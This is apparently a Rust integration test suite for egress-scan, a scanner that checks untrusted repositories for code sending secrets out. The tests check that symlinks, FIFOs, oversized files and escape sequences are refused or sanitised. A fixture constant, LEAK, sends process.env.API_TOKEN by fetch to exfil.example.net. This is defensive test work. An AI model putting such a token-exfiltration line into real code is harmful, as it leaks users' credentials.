//! The scanned repository is untrusted (a pull request controls every file
//! and link in it): files the run reads besides sources — config, baseline,
//! reports, `.git/config` — must be regular files, never links out of the
//! tree, size-capped, and their content must not reach the diagnostics.

use std::path::Path;
use std::time::Duration;

use crate::common::{egress_scan, fixture, git};

/// Not a performance bound: a run that reads a FIFO or a device would never
/// end, and this keeps such a regression from hanging the suite.
const HANG_GUARD: Duration = Duration::from_secs(120);

/// A copy of the chatbot fixture whose `.egress-scan.toml` is `make`'s.
fn repo_with(make: impl FnOnce(&Path)) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    for entry in walk(&fixture("chatbot")) {
        let rel = entry.strip_prefix(fixture("chatbot")).unwrap();
        let to = dir.path().join(rel);
        std::fs::create_dir_all(to.parent().unwrap()).unwrap();
        std::fs::copy(&entry, &to).unwrap();
    }
    make(dir.path());
    dir
}

/// stderr with miette's line wrapping undone, for phrase checks.
fn flat(stderr: &[u8]) -> String {
    String::from_utf8_lossy(stderr)
        .split_whitespace()
        .filter(|w| *w != "│")
        .collect::<Vec<_>>()
        .join(" ")
}

fn walk(dir: &Path) -> Vec<std::path::PathBuf> {
    let mut out = Vec::new();
    for e in std::fs::read_dir(dir).unwrap().flatten() {
        let p = e.path();
        if p.is_dir() {
            out.extend(walk(&p));
        } else {
            out.push(p);
        }
    }
    out
}

#[cfg(unix)]
#[test]
fn a_config_linked_to_a_secret_is_refused_without_showing_it() {
    let secret = tempfile::tempdir().unwrap();
    let secret_file = secret.path().join("credentials");
    std::fs::write(
        &secret_file,
        "[default]\naws_secret_access_key = SECRET-VALUE-123\n",
    )
    .unwrap();
    let repo =
        repo_with(|root| std::os::unix::fs::symlink(&secret_file, root.join(".egress-scan.toml")).unwrap());
    let out = egress_scan()
        .arg(repo.path())
        .timeout(HANG_GUARD)
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(flat(&out.stderr).contains("symbolic link"), "{stderr}");
    assert!(!stderr.contains("SECRET-VALUE"), "{stderr}");
    // The same link named explicitly inside the tree is refused as well.
    let explicit = egress_scan()
        .arg(repo.path())
        .arg("--config")
        .arg(repo.path().join(".egress-scan.toml"))
        .timeout(HANG_GUARD)
        .output()
        .unwrap();
    assert_eq!(explicit.status.code(), Some(2));
    assert!(!String::from_utf8_lossy(&explicit.stderr).contains("SECRET-VALUE"));
}

#[test]
fn a_config_error_shows_only_the_offending_line_escaped() {
    let repo = repo_with(|root| {
        std::fs::write(
            root.join(".egress-scan.toml"),
            "# TOKEN_ABOVE=abc\nguards = [\"a\"]\nbogus\u{1b}]0;pwned\u{7} = 1\n# TOKEN_BELOW=def\n",
        )
        .unwrap()
    });
    let out = egress_scan().arg(repo.path()).output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(
        !stderr.contains("TOKEN_ABOVE") && !stderr.contains("TOKEN_BELOW"),
        "{stderr}"
    );
    assert!(
        !stderr.contains('\u{1b}') && !stderr.contains('\u{7}'),
        "{stderr:?}"
    );
}

#[cfg(unix)]
#[test]
fn devices_and_fifos_named_as_inputs_are_refused() {
    let dir = tempfile::tempdir().unwrap();
    let fifo = dir.path().join("report.json");
    let c = std::ffi::CString::new(fifo.as_os_str().as_encoded_bytes()).unwrap();
    // SAFETY: a valid NUL-terminated path and mode.
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0);
    let chatbot = fixture("chatbot");
    let cases: Vec<Vec<std::ffi::OsString>> = vec![
        vec![chatbot.clone().into(), "--config".into(), "/dev/zero".into()],
        vec![chatbot.clone().into(), "--baseline".into(), "/dev/zero".into()],
        vec![chatbot.into(), "--baseline".into(), fifo.clone().into()],
        vec!["merge".into(), "/dev/zero".into()],
        vec!["merge".into(), fifo.into()],
    ];
    for args in cases {
        let out = egress_scan().args(&args).timeout(HANG_GUARD).output().unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{args:?}: {stderr}");
        assert!(
            flat(&out.stderr).contains("not a regular file"),
            "{args:?}: {stderr}"
        );
    }
}

#[test]
fn an_unknown_rule_in_the_severity_table_is_an_error() {
    let repo = repo_with(|root| {
        std::fs::write(
            root.join(".egress-scan.toml"),
            "[severity]\n\"egress/nope\" = \"high\"\n",
        )
        .unwrap()
    });
    let out = egress_scan().arg(repo.path()).output().unwrap();
    let stderr = flat(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(stderr.contains("unknown rule"), "{stderr}");
}

/// A shard report of the chatbot fixture, as JSON.
fn shard_report() -> serde_json::Value {
    let out = egress_scan()
        .args(["fixtures/chatbot", "-f", "json", "--shard", "1/2"])
        .output()
        .unwrap();
    serde_json::from_slice(&out.stdout).expect("a shard report")
}

fn write_json(dir: &Path, name: &str, value: &serde_json::Value) -> std::path::PathBuf {
    let path = dir.join(name);
    std::fs::write(&path, serde_json::to_vec(value).unwrap()).unwrap();
    path
}

#[test]
fn merge_refuses_a_shard_index_out_of_range_and_overflowing_counts() {
    let dir = tempfile::tempdir().unwrap();
    let mut bad_index = shard_report();
    bad_index["shard"]["index"] = 3.into();
    let path = write_json(dir.path(), "bad-index.json", &bad_index);
    let out = egress_scan().arg("merge").arg(&path).output().unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(
        flat(&out.stderr).contains("not within 1..=2"),
        "{}",
        flat(&out.stderr)
    );

    let mut one = shard_report();
    one["stats"]["files_seen"] = u64::MAX.into();
    let mut two = shard_report();
    two["shard"]["index"] = 2.into();
    two["stats"]["files_seen"] = 1.into();
    let a = write_json(dir.path(), "a.json", &one);
    let b = write_json(dir.path(), "b.json", &two);
    let out = egress_scan().arg("merge").arg(&a).arg(&b).output().unwrap();
    assert_eq!(
        out.status.code(),
        Some(2),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    assert!(flat(&out.stderr).contains("overflow"), "{}", flat(&out.stderr));
}

#[test]
fn diff_and_baseline_refuse_shard_reports_and_other_schemas() {
    let dir = tempfile::tempdir().unwrap();
    let full = egress_scan()
        .args(["fixtures/chatbot", "-f", "json"])
        .output()
        .unwrap();
    let full_path = dir.path().join("full.json");
    std::fs::write(&full_path, &full.stdout).unwrap();
    let shard = write_json(dir.path(), "shard.json", &shard_report());
    let out = egress_scan()
        .arg("diff")
        .arg(&full_path)
        .arg(&shard)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(
        flat(&out.stderr).contains("merge the shards first"),
        "{}",
        flat(&out.stderr)
    );

    let mut other: serde_json::Value = serde_json::from_slice(&full.stdout).unwrap();
    other["schema_version"] = 2.into();
    let other = write_json(dir.path(), "v2.json", &other);
    let out = egress_scan()
        .arg("diff")
        .arg(&full_path)
        .arg(&other)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(
        flat(&out.stderr).contains("schema_version"),
        "{}",
        flat(&out.stderr)
    );
    for baseline in [&other, &shard] {
        let out = egress_scan()
            .args(["fixtures/chatbot", "--fail-on", "low", "--baseline"])
            .arg(baseline)
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(2), "{}", baseline.display());
    }
}

const LEAK: &str = "const k = process.env.API_TOKEN;\nexport const send = () => fetch(`https://exfil.example.net/c?token=${k}`);\n";

#[test]
fn a_tracked_file_listed_in_gitignore_is_still_scanned_and_gated() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    git(root, &["init", "-q"]);
    std::fs::create_dir_all(root.join("src/lib")).unwrap();
    std::fs::write(root.join("src/lib/helper.ts"), LEAK).unwrap();
    std::fs::write(root.join("src/untracked.ts"), LEAK).unwrap();
    std::fs::write(root.join(".gitignore"), "src/lib/helper.ts\nsrc/untracked.ts\n").unwrap();
    git(root, &["add", ".gitignore"]);
    git(root, &["add", "-f", "src/lib/helper.ts"]);
    git(root, &["commit", "-q", "-m", "hidden helper"]);
    let out = egress_scan()
        .arg(root)
        .args(["-f", "json", "--fail-on", "high"])
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let files: Vec<&str> = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["file"].as_str().unwrap())
        .collect();
    assert!(files.contains(&"src/lib/helper.ts"), "{files:?}");
    // Untracked and ignored: ignore rules still decide.
    assert!(!files.contains(&"src/untracked.ts"), "{files:?}");
}

#[cfg(unix)]
#[test]
fn hostile_ignore_files_are_not_read_and_are_named() {
    type Make<'a> = &'a dyn Fn(&Path);
    let cases: [(&str, Make); 3] = [
        ("a symbolic link", &|p: &Path| {
            std::os::unix::fs::symlink("/dev/zero", p).unwrap()
        }),
        ("not a regular file", &|p: &Path| {
            let c = std::ffi::CString::new(p.as_os_str().as_encoded_bytes()).unwrap();
            // SAFETY: a valid NUL-terminated path and mode.
            assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0);
        }),
        ("larger than 256 KiB", &|p: &Path| {
            std::fs::write(p, "x\n".repeat(300_000)).unwrap()
        }),
    ];
    for (why, make) in cases {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        std::fs::create_dir_all(root.join("src")).unwrap();
        std::fs::write(root.join("src/app.ts"), LEAK).unwrap();
        make(&root.join("src/.gitignore"));
        let out = egress_scan()
            .arg(root)
            .args(["-f", "json"])
            .timeout(HANG_GUARD)
            .output()
            .unwrap();
        assert_eq!(
            out.status.code(),
            Some(0),
            "{why}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
        assert_eq!(
            report["stats"]["ignore_files_refused"],
            serde_json::json!([format!("src/.gitignore ({why})")]),
            "{why}"
        );
        assert_eq!(report["stats"]["files_parsed"], 1, "{why}");
    }
}

/// `files_seen` is the sum of the outcomes of the files seen (the identity
/// documented on `Stats::files_seen`).
fn assert_stats_add_up(report: &serde_json::Value, what: &str) {
    let s = &report["stats"];
    let n = |v: &serde_json::Value| v.as_u64().unwrap_or(0);
    let k = &s["files_skipped"];
    let sum = n(&s["files_parsed"])
        + n(&s["files_without_triggers"])
        + [
            "binary",
            "too_large",
            "minified",
            "unreadable",
            "symlink_or_special",
            "parse_abandoned",
        ]
        .iter()
        .map(|key| n(&k[key]))
        .sum::<u64>();
    assert_eq!(n(&s["files_seen"]), sum, "{what}: {s:#}");
}

#[cfg(unix)]
#[test]
fn stats_add_up_on_every_fixture_and_with_links_fifos_and_large_files() {
    for name in crate::common::fixture_names() {
        let out = egress_scan()
            .arg(fixture(&name))
            .args(["-f", "json", "--include-tests"])
            .output()
            .unwrap();
        assert_stats_add_up(&serde_json::from_slice(&out.stdout).unwrap(), &name);
    }
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    std::fs::write(root.join("app.ts"), LEAK).unwrap();
    std::fs::write(root.join("plain.ts"), "export const x = 1;\n").unwrap();
    std::fs::write(root.join("big.ts"), "// x\n".repeat(10_000)).unwrap();
    std::os::unix::fs::symlink("/etc/passwd", root.join("link.ts")).unwrap();
    let c = std::ffi::CString::new(root.join("pipe.ts").as_os_str().as_encoded_bytes()).unwrap();
    // SAFETY: a valid NUL-terminated path and mode.
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0);
    let out = egress_scan()
        .arg(root)
        .args(["-f", "json", "--max-file-size", "1000"])
        .timeout(HANG_GUARD)
        .output()
        .unwrap();
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(report["stats"]["files_seen"], 5, "{:#}", report["stats"]);
    assert_stats_add_up(&report, "special files");
}

#[test]
fn a_deeply_nested_rule_file_is_refused_before_parsing() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("deep.yaml"),
        format!("id: team/x\na: {}{}\n", "[".repeat(100_000), "]".repeat(100_000)),
    )
    .unwrap();
    let out = egress_scan()
        .args(["rules", "list", "--rules"])
        .arg(dir.path())
        .timeout(HANG_GUARD)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(
        flat(&out.stderr).contains("nested deeper than 64"),
        "{}",
        flat(&out.stderr)
    );
}

#[cfg(unix)]
#[test]
fn a_rule_file_linked_out_of_the_rules_folder_is_refused() {
    let secret = tempfile::tempdir().unwrap();
    std::fs::write(secret.path().join("env"), "AWS_SECRET=SECRET-VALUE-456\n").unwrap();
    let dir = tempfile::tempdir().unwrap();
    std::os::unix::fs::symlink(secret.path().join("env"), dir.path().join("leak.yaml")).unwrap();
    let out = egress_scan()
        .args(["rules", "list", "--rules"])
        .arg(dir.path())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let stderr = flat(&out.stderr);
    assert!(
        stderr.contains("symbolic link") && !stderr.contains("SECRET-VALUE"),
        "{stderr}"
    );
}

#[test]
fn bidi_overrides_from_the_repository_never_reach_a_report_raw() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("app.ts"),
        "// \u{202e}evil comment\nconst k = process.env.API_TOKEN;\nexport const f = () => fetch(`https://api.example.net/\u{202e}x?token=${k}`);\n",
    )
    .unwrap();
    for format in ["json", "sarif", "markdown", "table"] {
        let out = egress_scan()
            .arg(dir.path())
            .args(["-f", format])
            .output()
            .unwrap();
        let text = String::from_utf8(out.stdout).unwrap();
        assert!(text.contains("api.example.net"), "{format}: {text}");
        assert!(!text.contains('\u{202e}'), "{format} shows a raw U+202E");
    }
}
